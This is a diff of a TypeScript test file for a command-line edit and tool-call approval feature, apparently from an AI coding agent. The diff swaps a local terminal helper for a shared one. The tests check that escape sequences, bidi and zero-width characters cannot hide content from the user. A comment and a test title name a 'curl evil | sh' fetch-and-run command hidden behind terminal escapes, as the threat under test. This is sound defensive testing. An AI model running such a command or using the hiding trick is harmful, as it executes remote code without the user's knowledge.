@@ -1,11 +1,10 @@
 import assert from 'node:assert/strict';
-import { PassThrough } from 'node:stream';
 import { CliApprovals } from '../../../src/cli/cliApprovals';
-import type { CliOutput } from '../../../src/cli/cliIo';
-import { TerminalPrompt } from '../../../src/cli/terminalPrompt';
+import type { TerminalPrompt } from '../../../src/cli/terminalPrompt';
 import { renderUnifiedDiff } from '../../../src/cli/unifiedDiff';
 import type { EditProposal } from '../../../src/core/tools/approvalPort';
 import { mcpProposal } from '../../support/mcpProposal';
+import { scriptedTerminal } from '../../support/scriptedTerminal';
 
 const ESC = '\u001b';
 /** Content whose `curl evil | sh` a raw terminal would erase: CR, clear-line, then a harmless line. */
@@ -26,26 +25,6 @@ function proposal(after: string, before: string | null = 'echo hi\n'): EditPropo
   };
 }
 
-/** A terminal: everything written is kept; each question is answered with the next of `answers` (none: stdin ends). */
-function terminal(answers: string[]): { prompt: TerminalPrompt; written: () => string; questions: string[] } {
-  const input = new PassThrough();
-  const chunks: string[] = [];
-  const questions: string[] = [];
-  const output: CliOutput = {
-    write(text) {
-      chunks.push(text);
-      if (!/\] $/.test(text)) return;
-      questions.push(text.slice(text.lastIndexOf('\n') + 1));
-      const next = answers.shift();
-      setImmediate(() => (next === undefined ? input.end() : input.write(`${next}\n`)));
-    },
-    isTTY: true,
-    columns: 80,
-    flush: async () => undefined,
-  };
-  return { prompt: new TerminalPrompt(input, output), written: () => chunks.join(''), questions };
-}
-
 function approvals(prompt: TerminalPrompt, maxDiffLines?: number): CliApprovals {
   return new CliApprovals({
     mode: 'prompt',
@@ -60,7 +39,7 @@ const numbered = (n: number): string => Array.from({ length: n }, (_, i) => `lin
 
 describe('checklist 30: terminal approvals show escapes and the whole change', () => {
   it('shows a `curl evil | sh` hidden behind \\r and \\x1b[2K as escapes, with a marker', async () => {
-    const term = terminal(['n']);
+    const term = scriptedTerminal(['n']);
     const decision = await approvals(term.prompt).decideEdit(proposal(`${HIDDEN}\n`), new AbortController().signal);
     assert.equal(decision.decision, 'rejected');
     const out = term.written();
@@ -71,7 +50,7 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   });
 
   it('neutralises bidi overrides and zero-width characters in the path and labels too', async () => {
-    const term = terminal(['']);
+    const term = scriptedTerminal(['']);
     const p = {
       ...proposal('x\n'),
       path: 'ok\u202Ehs.txt',
@@ -89,7 +68,7 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   it('a 1,000-line diff states exactly how many lines are hidden and defaults to reject', async () => {
     const whole = renderUnifiedDiff('big.txt', undefined, numbered(1000), { maxLines: Number.POSITIVE_INFINITY });
     assert.equal(whole.totalLines, 1003);
-    const term = terminal(['']);
+    const term = scriptedTerminal(['']);
     const decision = await approvals(term.prompt).decideEdit(
       proposal(numbered(1000), null),
       new AbortController().signal,
@@ -103,7 +82,7 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   });
 
   it('y alone does not approve an unseen change; v shows it all, then y approves', async () => {
-    const term = terminal(['y', 'v', 'y']);
+    const term = scriptedTerminal(['y', 'v', 'y']);
     const decision = await approvals(term.prompt).decideEdit(
       proposal(numbered(1000), null),
       new AbortController().signal,
@@ -118,7 +97,7 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   });
 
   it('applying unseen is an explicit answer', async () => {
-    const term = terminal(['apply unseen']);
+    const term = scriptedTerminal(['apply unseen']);
     const decision = await approvals(term.prompt, 50).decideEdit(
       proposal(numbered(100), null),
       new AbortController().signal,
@@ -128,11 +107,11 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   });
 
   it('a short diff is shown whole and asks y/N as before; auto never prompts', async () => {
-    const term = terminal(['y']);
+    const term = scriptedTerminal(['y']);
     const decision = await approvals(term.prompt).decideEdit(proposal('echo bye\n'), new AbortController().signal);
     assert.equal(decision.decision, 'accepted');
     assert.match(term.questions[0] ?? '', /^Apply this edit to setup\.sh\? \[y\/N\/reason\] $/);
-    const auto = terminal([]);
+    const auto = scriptedTerminal([]);
     const autoApprovals = new CliApprovals({
       mode: 'auto',
       prompt: auto.prompt,
@@ -147,7 +126,7 @@ describe('checklist 30: terminal approvals show escapes and the whole change', (
   });
 
   it('a closed terminal pauses the run rather than approving', async () => {
-    const term = terminal([]);
+    const term = scriptedTerminal([]);
     await assert.rejects(
       approvals(term.prompt).decideEdit(proposal(numbered(1000), null), new AbortController().signal),
       /terminal closed before an answer/,
@@ -159,7 +138,7 @@ describe('checklist 30: an MCP tool call is asked as one, with its arguments esc
   const signal = (): AbortSignal => new AbortController().signal;
 
   it('names server and tool, shows the arguments with escapes, and says it is not a command', async () => {
-    const t = terminal(['y']);
+    const t = scriptedTerminal(['y']);
     const title = `Fix${ESC}[2K\u202e it`;
     const decision = await approvals(t.prompt).decideCommand(mcpProposal({ title, labels: ['bug'] }), signal());
     assert.deepEqual(decision, { decision: 'accepted', by: 'user' });
@@ -174,11 +153,11 @@ describe('checklist 30: an MCP tool call is asked as one, with its arguments esc
 
   it('arguments too long to show are never called on a plain yes, and the prompt says how much is hidden', async () => {
     const big = { body: 'x'.repeat(25_000) };
-    const yes = terminal(['y']);
+    const yes = scriptedTerminal(['y']);
     const refused = await approvals(yes.prompt).decideCommand(mcpProposal(big), signal());
     assert.equal(refused.decision, 'rejected');
     assert.match(yes.written(), /… \d+ more characters of the arguments are not shown\./);
-    const unseen = terminal(['call unseen']);
+    const unseen = scriptedTerminal(['call unseen']);
     assert.equal((await approvals(unseen.prompt).decideCommand(mcpProposal(big), signal())).decision, 'accepted');
   });
 
